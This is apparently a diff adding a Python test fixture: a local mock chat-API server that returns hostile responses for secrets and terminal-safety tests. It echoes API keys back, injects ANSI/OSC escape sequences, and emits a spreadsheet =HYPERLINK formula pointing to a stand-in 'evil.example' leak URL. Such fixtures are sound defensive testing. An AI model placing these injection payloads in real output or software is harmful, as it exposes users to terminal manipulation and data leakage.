@@ -1,0 +1,138 @@
+"""A small hostile server for the secrets and terminal-safety tests: it speaks both protocols
+(POST .../v1/messages and .../v1/chat/completions), streamed or not, and turns everything it is
+sent against the client:
+
+- every other request is a 401 whose message echoes the credentials it received, as some
+  gateways do (`Incorrect API key provided: Bearer sk-...`), with an escape sequence in it;
+- the others answer 200 with an output that echoes the credentials too, starts like a
+  spreadsheet formula, and carries escape sequences, as do the model name and (OpenAI) the
+  system_fingerprint.
+
+`received` keeps the headers of every request, so a test can show the secrets really went out.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+# OSC "set the window title" ended by BEL, then CSI "clear the screen".
+HOSTILE_CONTROLS = "\x1b]0;pwned\x07\x1b[2J"
+FINGERPRINT = f"fp_{HOSTILE_CONTROLS}"
+MODEL = f"model{HOSTILE_CONTROLS}"
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
+CREDENTIAL_HEADERS = ("authorization", "x-api-key", "ocp-apim-subscription-key")
+
+
+def _credentials(headers: Any) -> str:
+    return " ".join(f"{name}: {headers[name]}" for name in CREDENTIAL_HEADERS if headers.get(name))
+
+
+def _sse(events: list[tuple[str | None, dict[str, Any] | str]]) -> bytes:
+    out = []
+    for name, data in events:
+        text = data if isinstance(data, str) else json.dumps(data)
+        out.append((f"event: {name}\n" if name else "") + f"data: {text}\n\n")
+    return "".join(out).encode()
+
+
+def _openai(body: dict[str, Any], output: str) -> tuple[str, bytes]:
+    usage = {"prompt_tokens": 5, "completion_tokens": 3, "total_tokens": 8}
+    base = {"id": "chatcmpl-1", "created": 1, "model": MODEL, "system_fingerprint": FINGERPRINT}
+    if not body.get("stream"):
+        return "application/json", json.dumps({
+            **base, "object": "chat.completion", "usage": usage,
+            "choices": [{"index": 0, "finish_reason": "stop",
+                         "message": {"role": "assistant", "content": output}}]}).encode()
+    chunk = {**base, "object": "chat.completion.chunk"}
+    return "text/event-stream", _sse([
+        (None, {**chunk, "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""},
+                                      "finish_reason": None}]}),
+        (None, {**chunk, "choices": [{"index": 0, "delta": {"content": output}, "finish_reason": None}]}),
+        (None, {**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}),
+        (None, {**chunk, "choices": [], "usage": usage}),
+        (None, "[DONE]"),
+    ])
+
+
+def _anthropic(body: dict[str, Any], output: str) -> tuple[str, bytes]:
+    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": MODEL,
+               "stop_reason": None, "stop_sequence": None, "content": [],
+               "usage": {"input_tokens": 5, "output_tokens": 1}}
+    if not body.get("stream"):
+        return "application/json", json.dumps({
+            **message, "stop_reason": "end_turn", "content": [{"type": "text", "text": output}],
+            "usage": {"input_tokens": 5, "output_tokens": 3}}).encode()
+    return "text/event-stream", _sse([
+        ("message_start", {"type": "message_start", "message": message}),
+        ("content_block_start", {"type": "content_block_start", "index": 0,
+                                 "content_block": {"type": "text", "text": ""}}),
+        ("content_block_delta", {"type": "content_block_delta", "index": 0,
+                                 "delta": {"type": "text_delta", "text": output}}),
+        ("content_block_stop", {"type": "content_block_stop", "index": 0}),
+        ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
+                           "usage": {"output_tokens": 3}}),
+        ("message_stop", {"type": "message_stop"}),
+    ])
+
+
+def _unauthorized(anthropic: bool, credentials: str) -> bytes:
+    message = f"Incorrect API key provided: {credentials} {HOSTILE_CONTROLS}"
+    if anthropic:
+        return json.dumps({"type": "error", "error": {"type": "authentication_error", "message": message}}).encode()
+    return json.dumps({"error": {"message": message, "type": "invalid_request_error", "param": None,
+                                 "code": "invalid_api_key"}}).encode()
+
+
+class HostileServer:
+    def __init__(self) -> None:
+        self.received: list[dict[str, str]] = []
+        self._count = 0
+        self._lock = threading.Lock()
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+            def do_POST(self) -> None:
+                body = json.loads(self.rfile.read(int(self.headers.get("content-length") or 0)) or b"{}")
+                headers = {k.lower(): v for k, v in self.headers.items()}
+                with server._lock:
+                    server.received.append(headers)
+                    server._count += 1
+                    refuse = server._count % 2 == 1
+                anthropic = self.path.endswith("/messages")
+                credentials = _credentials(headers)
+                if refuse:
+                    status, kind, payload = 401, "application/json", _unauthorized(anthropic, credentials)
+                else:
+                    output = f"{FORMULA} You said: {credentials} {HOSTILE_CONTROLS}"
+                    kind, payload = (_anthropic if anthropic else _openai)(body, output)
+                    status = 200
+                self.send_response(status)
+                self.send_header("content-type", kind)
+                self.send_header("content-length", str(len(payload)))
+                self.send_header("x-request-id", f"req_{credentials}")
+                self.end_headers()
+                self.wfile.write(payload)
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
+
+    @property
+    def base_url(self) -> str:
+        return f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def __enter__(self) -> "HostileServer":
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc_info: Any) -> None:
+        self._server.shutdown()
+        self._server.server_close()
